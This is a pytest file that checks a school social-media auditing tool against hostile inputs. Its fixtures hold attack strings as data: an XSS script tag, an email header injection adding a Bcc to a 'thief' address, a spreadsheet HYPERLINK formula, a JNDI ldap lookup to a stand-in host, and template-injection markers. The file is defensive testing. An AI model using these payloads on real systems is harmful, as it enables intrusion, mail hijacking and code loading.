"""Texts and names that want to do harm: nothing breaks, and nothing harmful reaches a reader."""

from __future__ import annotations

import csv
import io
from typing import TYPE_CHECKING

import pytest

from connectors.testing import Diary, comment, facebook_page, photo, post, rename, x_account
from tests.whole_line.leaks import everything_written, plain_text
from tests.whole_line.line import Line, a_line, a_register, a_school, an_account, iso, local, page_token

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

pytestmark = pytest.mark.slow

NIGHT = local(11, 20, 3, 15)
MONDAY = local(11, 23, 6, 30)
SCRIPT = "<script>alert('hello')</script>"
INJECTION = "Lovely\r\nBcc: thief@elsewhere.example\r\n\r\nbody"
FORMULA = '=HYPERLINK("https://elsewhere.example","click")'
BIDI = "\u202e\u2066reversed\u2069\u200b\ufeff"
HALF = "half a pair \ud83d and a NUL \x00 end"
DEEP = "{{ 7 * 7 }} {% raw %} ${jndi:ldap://elsewhere.example} %s %(x)s {0}"
LONG = "a" * 9000 + " 😀" * 300
TEXTS = (SCRIPT, INJECTION, FORMULA, BIDI, HALF, DEEP, LONG, "", " \n\t ", "\u0301" * 200, "[a](javascript:alert(1))")
NAMED = "Well done to Ella Thompson in Year 4, our star of the week!"
CONTROLS = "\u202e\u2066\u2069\u200b\ufeff\x00\x1b"


def _diary() -> Diary:
    at = local(11, 18, 12)
    posts = [post(f"p{number}", at, text, photo(text)) for number, text in enumerate(TEXTS)]
    comments = [
        comment(f"c{number}", local(11, 18, 14), on="p0", by=f"{SCRIPT} {number}", text=text)
        for number, text in enumerate(TEXTS)
    ]
    named = [
        post(f"named{number}", local(11, 18, 15, number), f"{NAMED}\n\n{text}", photo(text))
        for number, text in enumerate(TEXTS)
    ]
    page = facebook_page(
        "oakprimary",
        id="2001",
        name=f"{SCRIPT}{BIDI}",
        token=page_token("2001"),
        diary=[*posts, *comments, *named, rename(local(11, 19, 9), FORMULA, INJECTION)],
    )
    account = x_account("OakPrimary", id="1001", name=INJECTION, description=HALF, diary=[*posts, *comments, *named])
    return Diary(account, page)


REGISTER = a_register(
    a_school(
        "oak",
        f"Oak {BIDI} & <b>Sons</b> Primary School",
        an_account("x", "OakPrimary", "1001"),
        an_account("facebook", "oakprimary", "2001"),
        handle='"oakprimary"',
        report='["head.oak@trust.example"]',
    ),
    terms=[("2026-11-16", "2026-12-18")],
)


@pytest.fixture(scope="module")
def line(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Line]:
    """Let a night, a report and every way of listing findings pass over hostile texts."""
    with a_line(tmp_path_factory.mktemp("hostile"), _diary(), REGISTER, NIGHT) as line:
        assert line.audit(NIGHT).code == 0
        assert line.audit(local(11, 23, 3, 15)).code == 0
        assert line.send_report(MONDAY).code == 0
        assert line.auditor("report", "--out", "reports", "--as-of", iso(MONDAY)).code == 0
        assert line.auditor("report", "--as-of", iso(MONDAY)).code == 0
        assert line.auditor("findings").code == 0
        assert line.auditor("findings", "--format", "json").code == 0
        yield line


def test_whatever_was_written_is_read_and_judged(line: Line) -> None:
    assert line.rows("SELECT count(*) FROM item WHERE kind = 'comment' AND form = 'comment'") == [(2 * len(TEXTS),)]
    found = {(one["platform"], one["subject"]["id"]) for one in line.findings("--rule", "unnamed-children")}
    for stand_in, platform in ((line.x, "x"), (line.facebook, "facebook")):
        named = {(platform, stand_in.diary.id_of(f"named{number}", platform)) for number in range(len(TEXTS))}
        assert named <= found


def test_no_command_ends_in_a_traceback(line: Line) -> None:
    assert not any("Traceback" in text for text in line.printed)


def test_nothing_harmful_reaches_a_reader(line: Line) -> None:
    for place, text in everything_written(line).items():
        assert place.endswith(".json") or not set(CONTROLS) & set(text), place
        assert "<script" not in text.lower(), place
        assert "javascript:" not in text.lower(), place
        assert "<b>Sons" not in text or not place.endswith(".html"), place


def test_no_header_is_injected(line: Line) -> None:
    assert line.mails() != []
    for mail in line.mails():
        assert mail["Bcc"] is None
        assert mail["To"] in {"slt@trust.example", "head.oak@trust.example", "dsl@trust.example"}
        assert not mail.defects
        assert "thief@" not in plain_text(mail)


def test_a_mails_html_holds_nothing_remote_and_no_script(line: Line) -> None:
    for mail in line.mails():
        html = mail.get_body(("html",))
        assert html is not None
        content = html.get_content()
        assert "<script" not in content.lower()
        assert "&lt;b&gt;Sons" in content or "Sons" not in content
        assert " src=" not in content
        assert "<link" not in content


def test_no_cell_is_a_formula(line: Line) -> None:
    printed = line.auditor("findings", "--format", "csv").out
    rows = list(csv.reader(io.StringIO(printed)))
    assert len(rows) > 2 * len(TEXTS)
    assert not [cell for row in rows for cell in row if cell[:1] in set("=+-@\t\r\n＝＋－＠")]  # noqa: RUF001 - Excel obeys the wide ones too


def test_show_text_is_harmless_on_a_terminal_too(line: Line, tmp_path: Path) -> None:
    del tmp_path
    for one in line.findings()[:2]:
        shown = line.auditor("findings", "--show-text", one["id"])
        assert shown.code in {0, 2}
        assert not set(CONTROLS) & set(shown.out)
    line.printed.clear()
